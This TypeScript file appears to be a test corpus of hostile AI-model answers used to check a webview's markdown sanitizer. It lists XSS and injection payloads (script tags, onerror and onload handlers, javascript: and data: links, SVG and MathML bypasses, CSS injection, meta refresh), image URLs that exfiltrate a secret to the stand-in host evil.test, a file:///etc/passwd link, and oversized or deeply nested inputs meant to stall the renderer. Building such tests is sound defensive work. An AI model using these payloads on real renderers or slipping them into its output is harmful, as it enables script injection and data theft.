/**
 * Hostile model answers, one per entry, for the webview's security test. Each tries to run script (by setting
 * `window.__pwned`), reach the network, restyle or navigate the page, or stall it with sheer size or depth.
 */
const pwn = (tag: string) => `window.__pwned='${tag}'`;

export const hostileCorpus: { name: string; answer: string }[] = [
  // Script and event handlers in raw HTML (markdown-it's html option is off, the sanitizer is the second wall).
  { name: 'script tag', answer: `<script>${pwn('script')}</script>` },
  { name: 'script in paragraph', answer: `Here you go:\n\n<script src="https://evil.test/x.js"></script> done` },
  { name: 'img onerror', answer: `<img src=x onerror="${pwn('img')}">` },
  { name: 'svg onload', answer: `<svg onload="${pwn('svg')}"></svg>` },
  { name: 'svg script', answer: `<svg><script>${pwn('svg-script')}</script></svg>` },
  { name: 'svg animate href', answer: `<svg><a><animate attributeName=href values=javascript:${pwn('anim')} /><text y=20>x</text></a></svg>` },
  { name: 'svg foreignObject', answer: `<svg><foreignObject><iframe srcdoc="<script>parent.${pwn('fo')}</script>"></iframe></foreignObject></svg>` },
  { name: 'mathml mglyph style', answer: `<math><mtext><table><mglyph><style><img src=x onerror="${pwn('mathml')}">` },
  { name: 'mathml href', answer: `<math href="javascript:${pwn('math-href')}"><mi>x</mi></math>` },
  { name: 'details ontoggle', answer: `<details open ontoggle="${pwn('details')}"><summary>x</summary></details>` },
  { name: 'body onload', answer: `<body onload="${pwn('body')}">` },
  { name: 'iframe srcdoc', answer: `<iframe srcdoc="<script>parent.${pwn('iframe')}</script>"></iframe>` },
  { name: 'object data', answer: `<object data="javascript:${pwn('object')}"></object>` },
  { name: 'embed', answer: `<embed src="https://evil.test/e.swf">` },
  { name: 'form action', answer: `<form action="javascript:${pwn('form')}"><button>go</button></form>` },
  { name: 'input autofocus', answer: `<input autofocus onfocus="${pwn('input')}">` },
  { name: 'noscript break-out', answer: `<noscript><p title="</noscript><img src=x onerror=${pwn('noscript')}>">` },
  { name: 'template', answer: `<template><img src=x onerror="${pwn('template')}"></template>` },
  { name: 'marquee', answer: `<marquee onstart="${pwn('marquee')}">hi</marquee>` },
  { name: 'video poster', answer: `<video poster="https://evil.test/p.png"><source onerror="${pwn('video')}"></video>` },
  { name: 'audio src', answer: `<audio src=x onerror="${pwn('audio')}"></audio>` },
  { name: 'uppercase tags', answer: `<SCRIPT>${pwn('upper')}</SCRIPT><IMG SRC=x ONERROR="${pwn('upper-img')}">` },
  { name: 'split across tokens', answer: `<scr${''}ipt>${pwn('split')}</scr${''}ipt> and <im${''}g src=x onerr${''}or="${pwn('split-img')}">` },
  { name: 'html entity obfuscation', answer: `<img src=x onerror="&#119;indow.__pwned='entity'">` },
  // Links.
  { name: 'javascript link', answer: `[click me](javascript:${pwn('link')})` },
  { name: 'javascript link upper case', answer: `[click](JAVASCRIPT:${pwn('link-upper')})` },
  { name: 'javascript link with tab', answer: `[click](jav\tascript:${pwn('link-tab')})` },
  { name: 'javascript link entity', answer: `[click](&#106;avascript:${pwn('link-entity')})` },
  { name: 'vbscript link', answer: '[click](vbscript:msgbox(1))' },
  { name: 'data html link', answer: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'file link', answer: '[passwords](file:///etc/passwd)' },
  { name: 'command link', answer: '[quit](command:workbench.action.quit)' },
  { name: 'autolink javascript', answer: `<javascript:${pwn('autolink')}>` },
  { name: 'reference link javascript', answer: `[click][evil]\n\n[evil]: javascript:${pwn('ref-link')}` },
  { name: 'link title injection', answer: `[x](https://ok.test "a\\" onmouseover=\\"${pwn('title')}")` },
  // Images used to exfiltrate.
  { name: 'remote image', answer: '![pixel](https://evil.test/pixel.png?secret=abc)' },
  { name: 'protocol-relative image', answer: '![pixel](//evil.test/p.png)' },
  { name: 'http image', answer: '![pixel](http://evil.test/h.png "title")' },
  { name: 'reference image', answer: '![pixel][p]\n\n[p]: https://evil.test/ref.png' },
  { name: 'svg data image', answer: '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)' },
  { name: 'srcset', answer: '<img srcset="https://evil.test/b.png 2x" src="data:image/png;base64,AAAA">' },
  { name: 'image in link', answer: '[![x](https://evil.test/i.png)](https://ok.test/)' },
  // CSS injection.
  { name: 'style tag', answer: '<style>body { display: none } @import url(https://evil.test/x.css);</style>' },
  { name: 'style attribute', answer: '<div style="background: url(https://evil.test/bg.png); position: fixed; inset: 0">cover</div>' },
  { name: 'link stylesheet', answer: '<link rel="stylesheet" href="https://evil.test/link.css">' },
  { name: 'font face', answer: '<style>@font-face { font-family: x; src: url(https://evil.test/f.woff) }</style>' },
  { name: 'meta refresh', answer: '<meta http-equiv="refresh" content="0;url=https://evil.test/">' },
  { name: 'base href', answer: '<base href="https://evil.test/">[relative](page.html)' },
  // Markdown-level tricks.
  { name: 'fence info-string injection', answer: `\`\`\`js" onmouseover="${pwn('fence')}\nalert(1)\n\`\`\`` },
  { name: 'unclosed fence with html', answer: `\`\`\`\n<script>${pwn('unclosed')}</script>` },
  { name: 'table cell html', answer: `| a | b |\n| - | - |\n| <img src=x onerror="${pwn('table')}"> | ok |` },
  { name: 'html block after list', answer: `- item\n\n<div onclick="${pwn('block')}">x</div>` },
  { name: 'dom clobbering', answer: '<a id="transcript" name="body" data-code-action="copy">clobber</a><form id="composer"></form>' },
  // Size, depth and encoding.
  { name: 'enormous answer', answer: `${'A long answer line with `code` and **bold** text. '.repeat(20_000)}\n` },
  { name: 'deeply nested quotes', answer: `${'>'.repeat(5_000)} deep` },
  { name: 'deeply nested lists', answer: Array.from({ length: 1_000 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n') },
  { name: 'deeply nested brackets', answer: `${'['.repeat(20_000)}x${']'.repeat(20_000)}` },
  { name: 'deep emphasis', answer: `${'*_'.repeat(10_000)}x` },
  { name: 'invalid UTF-16 and control characters', answer: 'lone \ud800 high, lone \udfff low, NUL \u0000, BOM \ufeff, RTL \u202eevil\u202c, replacement \ufffd' },
  { name: 'very long line', answer: `\`${'x'.repeat(300_000)}\`` },
];
